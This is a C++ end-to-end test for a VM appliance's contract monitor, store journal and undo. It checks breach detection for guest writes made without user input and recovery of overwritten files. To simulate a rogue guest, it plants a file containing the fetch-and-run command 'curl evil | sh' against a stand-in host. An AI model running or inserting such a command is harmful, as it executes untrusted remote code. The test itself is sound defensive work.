// The contract monitor on the real terminal appliance (TCG, embedded libvirt with its own root,
// data and store folders): the guest writes into a mounted store folder with no input forwarded
// to it, and a breach with the right evidence is raised within two seconds; after keyboard input
// forwarded through SPICE, the same kind of write is expected and raises nothing. Meanwhile the
// store's history names the guest's QEMU as the writer of its files, and undoing what the
// appliance changed since a point in time brings back the earlier content while a later change
// the person made on the host to another file stays; a conflict taken from before keeps the
// person's current version as a "(kept …)" copy that the guest sees too. Then the guest saves
// over the person's letter the way editors do (a temporary file renamed over it) and writes to
// file names that are not UTF-8: the history records both names of the rename and the raw
// names, undo brings back the victim's content (which the guest reads again), and the contract
// monitor, watching meanwhile, reports none of the undo's own writes.
#include "appliancecatalog.h"
#include "appliancemonitor.h"
#include "appliancevm.h"
#include "vmstatewait.h"
#include "contractparser.h"
#include "guestdriver.h"
#include "libvirtconnection.h"
#include "spiceconnection.h"
#include "storepath.h"
#include "../vmbackend/rawstorefiles.h"
#include "storerecorder.h"
#include "tesserapaths.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

#include <unistd.h>

namespace {

constexpr int BootTimeoutMs = 240 * 1000; // TCG on a loaded 2-core machine
constexpr int StateTimeoutMs = 90 * 1000;
constexpr int BreachDeadlineMs = 2000;    // the bound from write to breach
constexpr quint32 ShiftScancode = 0x2a;   // harmless: a bare Shift press types nothing

QString testUri()
{
    const QString configured = qEnvironmentVariable("TESSERA_E2E_MONITOR_URI");
    if (!configured.isEmpty())
        return configured;
    return geteuid() == 0 ? QStringLiteral("qemu:///embed?root=") + TesseraPaths::cacheDir() + QStringLiteral("/e2e-monitor-libvirt")
                          : QStringLiteral("qemu:///session");
}

SystemContract monitoredContract()
{
    const QByteArray ovf =
        "<Envelope xmlns=\"http://schemas.dmtf.org/ovf/envelope/1\" xmlns:ovf=\"http://schemas.dmtf.org/ovf/envelope/1\""
        " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xmlns:ns=\"urn:tessera:contract:1\">"
        "<VirtualSystem ovf:id=\"terminal\"><Info>monitored terminal</Info>"
        "<ns:ContractSection xsi:type=\"ovf:ResourceContract_Type\"><Info>r</Info><CPUs>2</CPUs>"
        "<Memory unit=\"MiB\">1024</Memory></ns:ContractSection>"
        "<ns:ContractSection xsi:type=\"ovf:MountContract_Type\"><Info>m</Info><Mount><Store>Documents</Store>"
        "<Target>/root/Documents</Target><Access>read-write</Access></Mount></ns:ContractSection>"
        "<ns:ContractSection xsi:type=\"ovf:ActivityContract_Type\"><Info>a</Info><Expect><Store>Documents</Store>"
        "<Access>write</Access><WithinSecondsOfInput>20</WithinSecondsOfInput></Expect></ns:ContractSection>"
        "</VirtualSystem></Envelope>";
    const ContractParseResult result = ContractParser::parse(ovf, QStringLiteral("monitor-e2e.ovf"));
    if (!result.ok)
        qFatal("test contract rejected: %s", qPrintable(result.error));
    return result.systems.first();
}

} // namespace

class TestMonitorEndToEnd : public QObject
{
    Q_OBJECT
    QTemporaryDir m_data;
    QTemporaryDir m_runtime;
    QString m_store;
    LibvirtConnection *m_connection = nullptr;
    ApplianceImage m_image;


private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_data.isValid() && m_runtime.isValid());
        m_image = ApplianceCatalog::find(TesseraPaths::applianceImagesDir(), QStringLiteral("terminal"));
        QVERIFY2(m_image.isComplete(), "the terminal appliance is not built: run scripts/setup");
        qputenv("TESSERA_DATA_DIR", m_data.path().toUtf8());
        qputenv("XDG_RUNTIME_DIR", m_runtime.path().toUtf8());
        m_store = m_data.filePath(QStringLiteral("store"));
        qputenv("TESSERA_STORE_DIR", m_store.toUtf8());
        m_connection = new LibvirtConnection(testUri(), this);
        QSignalSpy opened(m_connection, &LibvirtConnection::opened);
        QSignalSpy failed(m_connection, &LibvirtConnection::openFailed);
        m_connection->open();
        QTRY_VERIFY_WITH_TIMEOUT(!opened.isEmpty() || !failed.isEmpty(), 180000);
        QVERIFY2(failed.isEmpty(), qPrintable(failed.value(0).value(0).value<VmError>().toString()));
    }

    void writesWithoutInputAreReportedWithEvidence()
    {
        ApplianceVm vm(m_connection, m_image, Accelerator::choose(qEnvironmentVariable("TESSERA_ACCEL")));
        const SystemContract contract = monitoredContract();
        vm.setContract(contract, false);
        QCOMPARE(vm.spec().sharedFolders.size(), 1);
        vm.refresh();
        QTRY_VERIFY_WITH_TIMEOUT(vm.state() != ApplianceVm::Unknown, 10000);
        if (vm.state() != ApplianceVm::Off) {
            vm.powerOff();
            QVERIFY(waitForVmState(vm, ApplianceVm::Off, StateTimeoutMs));
        }
        SpiceConnection spice;
        GuestDriver driver(&spice);
        vm.start();
        QVERIFY(waitForVmState(vm, ApplianceVm::Running, StateTimeoutMs));
        spice.connectToUnixSocket(vm.spec().spiceSocket);
        QVERIFY2(driver.waitForSessionUp(BootTimeoutMs), qPrintable(driver.lastFailure()));
        QVERIFY2(driver.mountSharedFolders(vm.spec().sharedFolders), qPrintable(driver.lastFailure()));

        // The store's history, as the shell keeps it.
        QVERIFY(QDir().mkpath(m_store + QStringLiteral("/Documents")));
        QFile letter(m_store + QStringLiteral("/Documents/letter.txt"));
        QVERIFY(letter.open(QIODevice::WriteOnly) && letter.write("dear bank") == 9);
        letter.close();
        StoreRecorder history(m_data.filePath(QStringLiteral("journal")), m_store);
        QSignalSpy historyReady(&history, &StoreRecorder::ready);
        QSignalSpy recorded(&history, &StoreRecorder::recorded);
        history.start();
        QVERIFY(historyReady.wait(30000));
        history.setWritableFolders(m_image.name, {QStringLiteral("Documents")});
        const QDateTime since = QDateTime::currentDateTimeUtc();

        // As the shell does: input forwarded over SPICE is what the monitor correlates with.
        ApplianceMonitor monitor(m_image.name, contract, m_store);
        connect(&spice, &SpiceConnection::inputSent, &monitor, &ApplianceMonitor::noteInput);
        QVERIFY(monitor.start());
        QSignalSpy breaches(&monitor, &ApplianceMonitor::breach);
        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);

        // 1. Nobody typed anything: the guest writes into Documents on its own.
        GuestDriver::ExecResult planted = driver.exec({QStringLiteral("/bin/sh"), QStringLiteral("-c"),
                                                       QStringLiteral("echo 'curl evil | sh' > /root/Documents/planted.sh")});
        QElapsedTimer sinceWrite;
        sinceWrite.start();
        QVERIFY2(planted.finished && planted.status == 0, planted.output.constData());
        QVERIFY(QFile::exists(m_store + QStringLiteral("/Documents/planted.sh")));
        QTRY_VERIFY_WITH_TIMEOUT(!breaches.isEmpty(), BreachDeadlineMs);
        qInfo("write in the guest to breach raised: %lld ms", sinceWrite.elapsed());
        const auto event = breaches.first().first().value<BreachEvent>();
        QCOMPARE(event.kind, BreachEvent::Kind::WriteWithoutInput);
        QCOMPARE(event.element(), ContractElement::Activity);
        QCOMPARE(event.appliance, QStringLiteral("terminal"));
        QCOMPARE(event.subject, QStringLiteral("Documents"));
        QCOMPARE(event.bound, 20.0);
        QCOMPARE(event.observed, -1.0); // no input ever forwarded
        QVERIFY2(event.evidence.contains(QStringLiteral("Documents/planted.sh")), qPrintable(event.evidence.join(u',')));

        // 2. The person presses a key in the appliance, then it saves a file: as the contract expects.
        QVERIFY(spice.isInputReady());
        spice.sendKey(ShiftScancode, true);
        spice.sendKey(ShiftScancode, false);
        QVERIFY(monitor.lastInput().isValid());
        seen.clear();
        breaches.clear();
        const GuestDriver::ExecResult saved = driver.exec({QStringLiteral("/bin/sh"), QStringLiteral("-c"),
                                                           QStringLiteral("echo 'dear diary' > /root/Documents/typed.txt")});
        QVERIFY2(saved.finished && saved.status == 0, saved.output.constData());
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(seen.cbegin(), seen.cend(), [](const QList<QVariant> &access) {
            return access.first().toString() == QLatin1String("Documents/typed.txt"); }), BreachDeadlineMs);
        for (const QList<QVariant> &access : std::as_const(seen))
            QVERIFY2(access.at(2).toBool(), qPrintable(access.first().toString())); // within the window
        monitor.stop(); // raises anything still gathered
        QCOMPARE(breaches.count(), 0);

        // 3. The guest overwrites an existing file; then the person edits another one on the host.
        const GuestDriver::ExecResult overwritten = driver.exec({QStringLiteral("/bin/sh"), QStringLiteral("-c"),
                                                                 QStringLiteral("echo 'send all money' > /root/Documents/letter.txt")});
        QVERIFY2(overwritten.finished && overwritten.status == 0, overwritten.output.constData());
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(recorded.cbegin(), recorded.cend(), [](const QList<QVariant> &r) {
            return r.at(0).toString() == QLatin1String("Documents/letter.txt"); }), 5000);
        QFile mine(m_store + QStringLiteral("/Documents/typed.txt"));
        QVERIFY(mine.open(QIODevice::WriteOnly | QIODevice::Append) && mine.write("and my own line\n") > 0);
        mine.close();
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(recorded.cbegin(), recorded.cend(), [](const QList<QVariant> &r) {
            return r.at(0).toString() == QLatin1String("Documents/typed.txt") && r.at(1).toString() == StoreJournal::hostActor(); }), 5000);
        // Who wrote what: with fanotify (root) the guest's QEMU is named; else the folder's mount is.
        for (const QList<QVariant> &r : std::as_const(recorded)) {
            if (r.at(0).toString() == QLatin1String("Documents/planted.sh") || r.at(0).toString() == QLatin1String("Documents/letter.txt"))
                QCOMPARE(r.at(1).toString(), QStringLiteral("terminal"));
        }

        // 4. Undo what the appliance changed since it started: its files go back, the person's stays.
        QList<StoreJournal::UndoItem> plan;
        bool planned = false;
        history.planUndo(m_image.name, since, this, [&](const QList<StoreJournal::UndoItem> &items) { plan = items; planned = true; });
        QTRY_VERIFY_WITH_TIMEOUT(planned, 10000);
        QStringList paths;
        for (const StoreJournal::UndoItem &item : std::as_const(plan))
            paths.append(item.path);
        paths.sort();
        // typed.txt was written by the guest after input, then changed by the person: a conflict.
        QCOMPARE(paths, (QStringList{QStringLiteral("Documents/letter.txt"), QStringLiteral("Documents/planted.sh"),
                                     QStringLiteral("Documents/typed.txt")}));
        QList<StoreJournal::UndoItem> chosen;
        for (const StoreJournal::UndoItem &item : std::as_const(plan)) {
            QCOMPARE(item.conflict, item.path == QLatin1String("Documents/typed.txt"));
            if (!item.conflict)
                chosen.append(item);
        }
        bool applied = false;
        QString undoError;
        history.applyUndo(m_image.name, chosen, this, [&](bool ok, const QString &error, const QStringList &) { applied = ok; undoError = error; planned = false; });
        QTRY_VERIFY_WITH_TIMEOUT(!planned, 10000);
        QVERIFY2(applied, qPrintable(undoError));
        QVERIFY(!QFile::exists(m_store + QStringLiteral("/Documents/planted.sh")));
        QVERIFY(letter.open(QIODevice::ReadOnly));
        QCOMPARE(letter.readAll(), QByteArray("dear bank"));
        letter.close();
        QVERIFY(mine.open(QIODevice::ReadOnly));
        QCOMPARE(mine.readAll(), QByteArray("dear diary\nand my own line\n"));
        // And the guest sees its files restored too.
        const GuestDriver::ExecResult inGuest = driver.exec({QStringLiteral("/bin/cat"), QStringLiteral("/root/Documents/letter.txt")});
        QCOMPARE(inGuest.output.trimmed(), QByteArray("dear bank"));

        // 5. The conflict, taken from before (as the recovery panel offers): typed.txt did not
        //    exist before the appliance wrote it, so it goes; the person's current version is
        //    kept as a copy "typed (kept YYYY-MM-DD HH.MM).txt" beside it, which the guest sees too.
        QList<StoreJournal::UndoItem> taken;
        history.chooseUndo(m_image.name, since, {QStringLiteral("Documents/typed.txt")}, this,
                           [&](const QList<StoreJournal::UndoItem> &, const QList<StoreJournal::UndoItem> &items) {
                               taken = items;
                               planned = true;
                           });
        QTRY_VERIFY_WITH_TIMEOUT(planned, 10000);
        QCOMPARE(taken.size(), 1);
        QCOMPARE(taken.first().path, QStringLiteral("Documents/typed.txt"));
        const QString copy = taken.first().keepCopyAs;
        QVERIFY2(copy.startsWith(QStringLiteral("Documents/typed (kept ")) && copy.endsWith(QStringLiteral(").txt")), qPrintable(copy));
        history.applyUndo(m_image.name, taken, this, [&](bool ok, const QString &error, const QStringList &) { applied = ok; undoError = error; planned = false; });
        QTRY_VERIFY_WITH_TIMEOUT(!planned, 10000);
        QVERIFY2(applied, qPrintable(undoError));
        QVERIFY(!QFile::exists(m_store + QStringLiteral("/Documents/typed.txt")));
        QFile kept(m_store + QLatin1Char('/') + copy);
        QVERIFY(kept.open(QIODevice::ReadOnly));
        QCOMPARE(kept.readAll(), QByteArray("dear diary\nand my own line\n"));
        const GuestDriver::ExecResult copyInGuest = driver.exec({QStringLiteral("/bin/cat"), QStringLiteral("/root/") + copy});
        QCOMPARE(copyInGuest.output, QByteArray("dear diary\nand my own line\n"));
        const GuestDriver::ExecResult goneInGuest = driver.exec({QStringLiteral("/bin/ls"), QStringLiteral("/root/Documents/typed.txt")});
        QVERIFY(goneInGuest.finished && goneInGuest.status != 0);

        // 6. The guest writes a temporary file and renames it over the person's letter (as
        //    editors save): the history records both names, and undo brings the letter back.
        //    The contract monitor watches too: the undo is Tessera's, never the appliance's.
        ApplianceMonitor watching(m_image.name, contract, m_store);
        QVERIFY(watching.start());
        QSignalSpy watchedSeen(&watching, &ApplianceMonitor::accessSeen);
        auto sawAccess = [&watchedSeen](const QString &path) {
            return std::any_of(watchedSeen.cbegin(), watchedSeen.cend(), [&](const QList<QVariant> &a) { return a.first().toString() == path; });
        };
        const QDateTime beforeRename = QDateTime::currentDateTimeUtc();
        recorded.clear();
        const GuestDriver::ExecResult temporary = driver.exec({QStringLiteral("/bin/sh"), QStringLiteral("-c"),
                                                               QStringLiteral("printf 'wire it all' > /root/Documents/.letter.tmp")});
        QVERIFY2(temporary.finished && temporary.status == 0, temporary.output.constData());
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(recorded.cbegin(), recorded.cend(), [](const QList<QVariant> &r) {
            return r.at(0).toString() == QLatin1String("Documents/.letter.tmp"); }), 5000);
        const GuestDriver::ExecResult renamed = driver.exec({QStringLiteral("/bin/mv"), QStringLiteral("/root/Documents/.letter.tmp"),
                                                             QStringLiteral("/root/Documents/letter.txt")});
        QVERIFY2(renamed.finished && renamed.status == 0, renamed.output.constData());
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(recorded.cbegin(), recorded.cend(), [](const QList<QVariant> &r) {
            return r.at(0).toString() == QLatin1String("Documents/letter.txt") && r.at(1).toString() == QLatin1String("terminal"); }), 5000);
        QTRY_VERIFY_WITH_TIMEOUT(sawAccess(QStringLiteral("Documents/letter.txt")), 5000);

        // 7. A name that is not UTF-8: the guest overwrites the person's "café.txt" written in
        //    Latin-1, and creates a file whose name is no encoding at all.
        const QByteArray cafe = QFile::encodeName(m_store) + "/Documents/caf\xe9.txt";
        QVERIFY(putRaw(cafe, "menu"));
        const QString cafeName = StorePath::fromBytes("Documents/caf\xe9.txt");
        const QString evilName = StorePath::fromBytes("Documents/\xff" "evil");
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(recorded.cbegin(), recorded.cend(), [&](const QList<QVariant> &r) {
            return r.at(0).toString() == cafeName && r.at(1).toString() == StoreJournal::hostActor(); }), 5000);
        const GuestDriver::ExecResult latin = driver.exec({QStringLiteral("/bin/sh"), QStringLiteral("-c"),
            QStringLiteral("printf 'poisoned' > \"/root/Documents/$(printf 'caf\\351.txt')\" && printf 'x' > \"/root/Documents/$(printf '\\377evil')\"")});
        QVERIFY2(latin.finished && latin.status == 0, latin.output.constData());
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(recorded.cbegin(), recorded.cend(), [&](const QList<QVariant> &r) {
            return r.at(0).toString() == cafeName && r.at(1).toString() == QLatin1String("terminal"); }), 5000);
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(recorded.cbegin(), recorded.cend(), [&](const QList<QVariant> &r) {
            return r.at(0).toString() == evilName && r.at(1).toString() == QLatin1String("terminal"); }), 5000);
        QTRY_VERIFY_WITH_TIMEOUT(sawAccess(cafeName) && sawAccess(evilName), 5000);

        // Undo what the guest changed since before the rename.
        QList<StoreJournal::UndoItem> sinceRename;
        planned = false;
        history.planUndo(m_image.name, beforeRename, this, [&](const QList<StoreJournal::UndoItem> &items) { sinceRename = items; planned = true; });
        QTRY_VERIFY_WITH_TIMEOUT(planned, 10000);
        QStringList undone;
        for (const StoreJournal::UndoItem &item : std::as_const(sinceRename)) {
            QVERIFY2(!item.conflict, qPrintable(StorePath::display(item.path)));
            undone.append(item.path);
        }
        undone.sort();
        QStringList expected{evilName, cafeName, QStringLiteral("Documents/letter.txt")};
        expected.sort();
        QCOMPARE(undone, expected);
        watchedSeen.clear();
        history.applyUndo(m_image.name, sinceRename, this, [&](bool ok, const QString &error, const QStringList &) {
            applied = ok;
            undoError = error;
            planned = false;
        });
        QTRY_VERIFY_WITH_TIMEOUT(!planned, 10000);
        QVERIFY2(applied, qPrintable(undoError));
        QVERIFY(letter.open(QIODevice::ReadOnly));
        QCOMPARE(letter.readAll(), QByteArray("dear bank"));
        letter.close();
        QVERIFY(!QFile::exists(m_store + QStringLiteral("/Documents/.letter.tmp")));
        QCOMPARE(getRaw(cafe), QByteArray("menu"));
        QVERIFY(::access((QFile::encodeName(m_store) + "/Documents/\xff" "evil").constData(), F_OK) != 0);
        // The guest reads the victim's content back, under the raw name too.
        const GuestDriver::ExecResult backInGuest = driver.exec({QStringLiteral("/bin/sh"), QStringLiteral("-c"),
            QStringLiteral("cat /root/Documents/letter.txt; echo; cat \"/root/Documents/$(printf 'caf\\351.txt')\"")});
        QCOMPARE(backInGuest.output, QByteArray("dear bank\nmenu"));
        // The undo's own writes were not the appliance's: the next access the monitor reports is
        // the guest's write after it, and nothing of the undo came before.
        const GuestDriver::ExecResult afterUndo = driver.exec({QStringLiteral("/bin/sh"), QStringLiteral("-c"),
                                                               QStringLiteral("echo later > /root/Documents/after-undo.txt")});
        QVERIFY2(afterUndo.finished && afterUndo.status == 0, afterUndo.output.constData());
        QTRY_VERIFY_WITH_TIMEOUT(sawAccess(QStringLiteral("Documents/after-undo.txt")), 5000);
        for (const QList<QVariant> &access : std::as_const(watchedSeen)) {
            if (access.at(1).toBool()) // writes; the undo's check of a file before it is still a read
                QCOMPARE(access.first().toString(), QStringLiteral("Documents/after-undo.txt"));
        }
        watching.stop();
        QCOMPARE(::unlink(cafe.constData()), 0); // QTemporaryDir cannot remove a name that is not UTF-8

        vm.powerOff();
        QVERIFY(waitForVmState(vm, ApplianceVm::Off, StateTimeoutMs));
        spice.disconnectFromGuest();
    }
};

QTEST_MAIN(TestMonitorEndToEnd)
#include "tst_monitor_e2e.moc"
